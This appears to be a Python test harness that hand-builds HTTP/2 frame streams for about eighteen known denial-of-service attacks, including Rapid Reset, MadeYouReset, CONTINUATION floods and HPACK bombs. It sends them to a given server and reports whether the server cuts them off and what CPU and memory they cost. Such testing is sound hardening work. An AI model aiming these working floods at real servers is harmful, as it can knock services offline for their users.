"""Known attacks on HTTP/2 over real sockets: `python -m tests.wire.http2_attacks HOST:PORT [PID] [NAME...]`.

Each is a stream of frames that a server must either cut off (GOAWAY, or the end of the connection) or bear:
with PID, what the attack cost that process is said too. The frames are written by hand here: no library would
send them.
"""

from __future__ import annotations

import itertools
import os
import select
import socket
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    range(10)
)
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4

# :method GET, :scheme http, :path / from the static table, :authority x as a literal (RFC 7541 A, 6.2.2).
GET = b"\x82\x86\x84" + b"\x01\x01x"
GET_LARGE = b"\x82\x86\x04\x06/large" + b"\x01\x01x"
POST = b"\x83\x86\x04\x05/echo" + b"\x01\x01x"

FRAMES = 10_000
AT_ONCE = 50
MAX_WAIT_S = 5.0


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + struct.pack(">BBI", kind, flags, stream) + payload


def settings(*pairs: tuple[int, int]) -> bytes:
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", *pair) for pair in pairs))


def window_update(stream: int, increment: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", increment))


def streams() -> Iterator[int]:
    return itertools.count(1, 2)


# --- the attacks: what is sent first, then one item for each frame or couple of frames


def rapid_reset() -> Iterator[bytes]:
    """CVE-2023-44487: requests that are taken back at once."""
    for stream in streams():
        cancel = frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + cancel


def made_you_reset() -> Iterator[bytes]:
    """CVE-2025-8671: mistakes that make the server take its streams back."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, POST) + window_update(stream, 0)


def made_you_reset_overflow() -> Iterator[bytes]:
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, POST) + window_update(stream, 2**31 - 1)


def continuation_flood() -> Iterator[bytes]:
    """CVE-2024-27316: a field section without an end."""
    yield frame(HEADERS, END_STREAM, 1, GET)
    for number in itertools.count():
        name = b"x%06d" % number
        yield frame(CONTINUATION, 0, 1, b"\x00" + bytes([len(name)]) + name + b"\x01y")


def empty_continuations() -> Iterator[bytes]:
    yield frame(HEADERS, END_STREAM, 1, GET)
    yield from itertools.repeat(frame(CONTINUATION, 0, 1))


def hpack_bomb() -> Iterator[bytes]:
    """One large entry of the dynamic table, named again and again: 4 KiB for a byte."""
    name, value = b"bomb", b"b" * 3900
    entry = b"\x40" + bytes([len(name)]) + name + b"\x7f" + _rest(len(value) - 127) + value
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + entry)
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET + b"\xbe" * 8000)


def zero_window_bomb() -> Iterator[bytes]:
    """2026: requests as large as they may be, whose answers may never leave."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    yield frame(
        HEADERS, END_HEADERS | END_STREAM, 1, GET_LARGE + b"\x40\x04bomb\x7f" + _rest(900) + b"b" * 1027
    )
    for stream in itertools.count(3, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_LARGE + b"\xbe" * 50)


def table_size_games() -> Iterator[bytes]:
    """The table's size changed back and forth within one section (RFC 7541 4.2 allows two)."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x20\x3f\xe1\x1f" * 1000 + GET)


def settings_flood() -> Iterator[bytes]:
    """CVE-2019-9515."""
    return itertools.repeat(settings())


def ping_flood() -> Iterator[bytes]:
    """CVE-2019-9512."""
    return itertools.repeat(frame(PING, 0, 0, bytes(8)))


def priority_flood() -> Iterator[bytes]:
    """CVE-2019-9513."""
    for stream in streams():
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1))


def empty_data() -> Iterator[bytes]:
    """CVE-2019-9518."""
    yield frame(HEADERS, END_HEADERS, 1, POST)
    yield from itertools.repeat(frame(DATA, 0, 1))


def unknown_frames() -> Iterator[bytes]:
    return itertools.repeat(frame(0x77, 0, 0, b"what"))


def small_updates() -> Iterator[bytes]:
    """CVE-2019-9511: a window that opens byte by byte."""
    yield settings((INITIAL_WINDOW_SIZE, 1))
    yield frame(HEADERS, END_HEADERS | END_STREAM, 1, GET_LARGE)
    yield from itertools.repeat(window_update(1, 1))


def window_overflow() -> Iterator[bytes]:
    return itertools.repeat(window_update(0, 2**31 - 1))


def window_size_games() -> Iterator[bytes]:
    """The windows of all streams changed at once, again and again."""
    for stream in range(1, 201, 2):
        yield frame(HEADERS, END_HEADERS, stream, POST)
    for size in itertools.cycle([0, 2**31 - 1]):
        yield settings((INITIAL_WINDOW_SIZE, size))


def zero_window_stall() -> Iterator[bytes]:
    """CVE-2019-9517 and others: answers asked for and never taken."""
    yield settings((INITIAL_WINDOW_SIZE, 0))
    for stream in range(1, 2001, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, GET_LARGE)


def stream_flood() -> Iterator[bytes]:
    """More streams than are allowed, none of them ended."""
    for stream in streams():
        yield frame(HEADERS, END_HEADERS, stream, POST)


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    attack.__name__: attack
    for attack in (
        rapid_reset,
        made_you_reset,
        made_you_reset_overflow,
        continuation_flood,
        empty_continuations,
        hpack_bomb,
        zero_window_bomb,
        table_size_games,
        settings_flood,
        ping_flood,
        priority_flood,
        empty_data,
        unknown_frames,
        small_updates,
        window_overflow,
        window_size_games,
        zero_window_stall,
        stream_flood,
    )
}


def _rest(number: int) -> bytes:
    """Bytes after the full prefix of an integer (RFC 7541 5.1)."""
    rest = b""
    while number >= 128:
        rest += bytes([number % 128 | 128])
        number //= 128
    return rest + bytes([number])


@dataclass(frozen=True)
class Outcome:
    """How far an attack came. `error`: of the GOAWAY, where there was one."""

    frames: int
    is_cut: bool
    error: int | None
    # The server has stopped reading: it bears no more.
    is_stuck: bool
    cpu_ms: float
    grown_kib: int


def attack(address: tuple[str, int], name: str, pid: int | None = None) -> Outcome:
    before = _cost(pid)
    with socket.create_connection(address, timeout=MAX_WAIT_S) as sock:
        sock.sendall(PREFACE + settings())
        seen = _Received()
        sent, is_stuck = 0, False
        frames = itertools.islice(ATTACKS[name](), FRAMES)
        while not seen.over and (batch := list(itertools.islice(frames, AT_ONCE))):
            try:
                sock.settimeout(MAX_WAIT_S)
                _send(sock, b"".join(batch), seen)
            except TimeoutError:
                is_stuck = True
                break
            except OSError:
                seen.over = True
                break
            sent += len(batch)
            seen.look(sock)
        seen.look(sock, 0.2)
        after = _cost(pid)
    return Outcome(
        sent, seen.over, seen.error, is_stuck, round(after[0] - before[0], 1), after[1] - before[1]
    )


class _Received:
    """Frames of the server that matter for the verdict."""

    def __init__(self) -> None:
        self.unread, self.over, self.error = b"", False, None

    def look(self, sock: socket.socket, seconds: float = 0.001) -> None:
        while not self.over and select.select([sock], [], [], seconds)[0]:
            try:
                news = sock.recv(1 << 20)
            except OSError:
                news = b""
            self.over = self.over or not news
            self.take(news)

    def take(self, news: bytes) -> None:
        self.unread += news
        while len(self.unread) >= 9 and len(self.unread) >= 9 + int.from_bytes(self.unread[:3], "big"):
            end = 9 + int.from_bytes(self.unread[:3], "big")
            if self.unread[3] == GOAWAY:
                self.error = struct.unpack(">I", self.unread[13:17])[0]
                self.over = True
            self.unread = self.unread[end:]


def _send(sock: socket.socket, data: bytes, seen: _Received) -> None:
    """All of it, reading meanwhile: an attacker who does not read is stopped by TCP."""
    sock.setblocking(False)
    deadline = time.monotonic() + MAX_WAIT_S
    while data and not seen.over:
        if time.monotonic() > deadline:
            raise TimeoutError
        readable, writable, _ = select.select([sock], [sock], [], 0.1)
        if readable:
            seen.look(sock, 0)
        if writable and not seen.over:
            data = data[sock.send(data) :]


def _cost(pid: int | None) -> tuple[float, int]:
    """CPU time in milliseconds, resident memory in KiB."""
    if pid is None:
        return 0.0, 0
    spent = sum(
        int((task / "schedstat").read_text().split()[0]) for task in Path(f"/proc/{pid}/task").iterdir()
    )
    pages = int(Path(f"/proc/{pid}/statm").read_text().split()[1])
    return spent / 1e6, pages * os.sysconf("SC_PAGESIZE") // 1024


def main() -> None:
    host, _, port = sys.argv[1].rpartition(":")
    pid = int(sys.argv[2]) if len(sys.argv) > 2 else None
    for name in sys.argv[3:] or ATTACKS:
        print(f"{name:24} {attack((host, int(port)), name, pid)}", flush=True)


if __name__ == "__main__":
    main()
